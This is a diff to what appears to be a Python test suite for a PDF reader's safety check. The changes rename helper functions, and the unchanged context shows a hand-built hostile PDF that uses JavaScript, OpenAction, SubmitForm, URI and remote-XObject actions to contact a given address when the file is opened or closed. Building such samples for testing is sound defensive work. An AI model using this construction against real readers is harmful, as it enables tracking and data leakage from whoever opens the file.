@@ -9,7 +9,7 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
-from reading.pdf.made import FONT, drawn, pdf, stream
+from made_pdf import FONT, drawn_line, pdf_of_objects, stream
 
 from sok.reading.pdf.opening import check_pdf
 from sok.reading.pdf.pdfium import open_pdf, read_sheet, render
@@ -57,7 +57,7 @@ def hostile(address: str, trace: Path) -> bytes:
     script = b"<</S/JavaScript/JS(app.launchURL('%b', true); this.submitForm('%b');)>>" % (web, web)
     link = b"<</S/URI/URI(%b)/Next[%b %b]>>" % (web, launch, script)
     submit = b"<</S/SubmitForm/F<</FS/URL/F(%b)>>>>" % web
-    return pdf(
+    return pdf_of_objects(
         b"<</Type/Catalog/Pages 2 0 R/OpenAction %b/Outlines 7 0 R/URI<</Base(%b)>>"
         b"/AA<</WC %b/DS %b>>/Names<</JavaScript<</Names[(a) %b]>>"
         b"/EmbeddedFiles<</Names[(b) 9 0 R]>>>>>>" % (script, web, submit, launch, script),
@@ -66,7 +66,7 @@ def hostile(address: str, trace: Path) -> bytes:
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents[5 0 R 6 0 R]"
         b"/Resources<</Font<</F1 3 0 R>>/XObject<</X 6 0 R>>>>/AA<</O %b/C %b>>"
         b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A %b>>]>>" % (launch, submit, link),
-        stream(drawn("Hej.") + b" /X Do"),
+        stream(drawn_line("Hej.") + b" /X Do"),
         stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F<</FS/URL/F(%b)>>" % web),
         b"<</Type/Outlines/First 8 0 R/Last 8 0 R>>",
         b"<</Title(Hit)/A %b>>" % link,
